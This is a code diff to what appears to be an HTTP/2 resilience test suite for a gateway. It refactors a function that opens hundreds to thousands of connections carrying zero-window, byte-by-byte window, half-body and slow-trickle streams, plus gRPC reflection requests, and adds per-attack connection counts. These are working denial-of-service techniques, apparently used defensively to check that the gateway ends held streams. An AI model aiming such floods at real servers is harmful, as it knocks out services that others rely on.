@@ -6,7 +6,7 @@ import { data, type HeaderFields, openStream, openStreamInParts, PREFACE, settin
 import { openSocket, received } from "./connections.ts";
 import { countEndedStreams } from "./http2-answers.ts";
 import { framesOf, get, LOGIN_BODY, login } from "./requests.ts";
-import { type Attack, forEachIndex } from "./target.ts";
+import { type Attack, type AttackPlan, forEachIndex } from "./target.ts";
 
 const STREAMS = Array.from({ length: 100 }, (_, index) => 2 * index + 1);
 /** Few at a time, each until it is heard: what they hold is the attack, not the rate of requests. */
@@ -19,6 +19,8 @@ const TRICKLE_MS = 1_000;
 const POLL_MS = 500;
 
 interface HeldStreams {
+  /** 2,000 connections when absent. */
+  readonly count?: number;
   /** The public one when absent. */
   readonly listener?: "internalUrl";
   /** SETTINGS_INITIAL_WINDOW_SIZE. */
@@ -37,10 +39,18 @@ interface HeldConnection {
 }
 
 /** Opens connections with the same frames on every stream, and expects that the gateway ends every stream. */
-function hold({ listener, window, streams = STREAMS, frames, trickle, mayLast = false }: HeldStreams): Attack {
+function hold({
+  count = 2_000,
+  listener,
+  window,
+  streams = STREAMS,
+  frames,
+  trickle,
+  mayLast = false,
+}: HeldStreams): AttackPlan {
   const first = Buffer.concat([PREFACE, settings(window), ...streams.map(frames)]);
   const later = trickle === undefined ? undefined : Buffer.concat(streams.map(trickle));
-  return async (target, count, findings) => {
+  const run: Attack = async (target, count, findings) => {
     const held: HeldConnection[] = [];
     const timer = setInterval(() => {
       for (const { socket } of held) if (later !== undefined && socket.writable) socket.write(later);
@@ -65,6 +75,7 @@ function hold({ listener, window, streams = STREAMS, frames, trickle, mayLast = 
     clearInterval(timer);
     for (const { socket } of held) socket.destroy();
   };
+  return { count, run };
 }
 
 const half = (stream: number, headers: HeaderFields): Buffer =>
@@ -81,7 +92,7 @@ const ask = Buffer.concat([Buffer.of(0, 0, 0, 0, ADMIN.length + 2, 0x22, ADMIN.l
 const REFLECT = { ...grpc, ":path": "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo" };
 
 /** By attack; the count is of connections. */
-export const HELD_STREAMS = {
+export const HELD_STREAMS: Readonly<Record<string, AttackPlan>> = {
   "window-0-documents": hold({ window: 0, frames: (stream) => framesOf(stream, get("/openapi.json")) }),
   "window-0-404": hold({ window: 0, frames: (stream) => framesOf(stream, get(`/nothing/${"a".repeat(200)}`)) }),
   "window-0-logins": hold({ window: 0, frames: (stream) => framesOf(stream, login()) }),
@@ -92,16 +103,19 @@ export const HELD_STREAMS = {
       Buffer.concat([openStream(stream, REFLECT, false), data(stream, Buffer.concat(Array(20).fill(ask)))]),
   }),
   "window-by-byte": hold({
+    count: 500,
     window: 0,
     mayLast: true,
     frames: (stream) => framesOf(stream, get("/openapi.json")),
     trickle: (stream) => windowUpdate(stream, 1),
   }),
-  "half-bodies": hold({ frames: (stream) => half(stream, login().headers) }),
+  "half-bodies": hold({ count: 500, frames: (stream) => half(stream, login().headers) }),
   "half-messages": hold({
+    count: 500,
     frames: (stream) => Buffer.concat([openStream(stream, grpc, false), data(stream, HALF_MESSAGE, false)]),
   }),
   "slow-bodies-http2": hold({
+    count: 500,
     frames: (stream) => half(stream, login().headers),
     trickle: (stream) => data(stream, Buffer.from(" "), false),
   }),
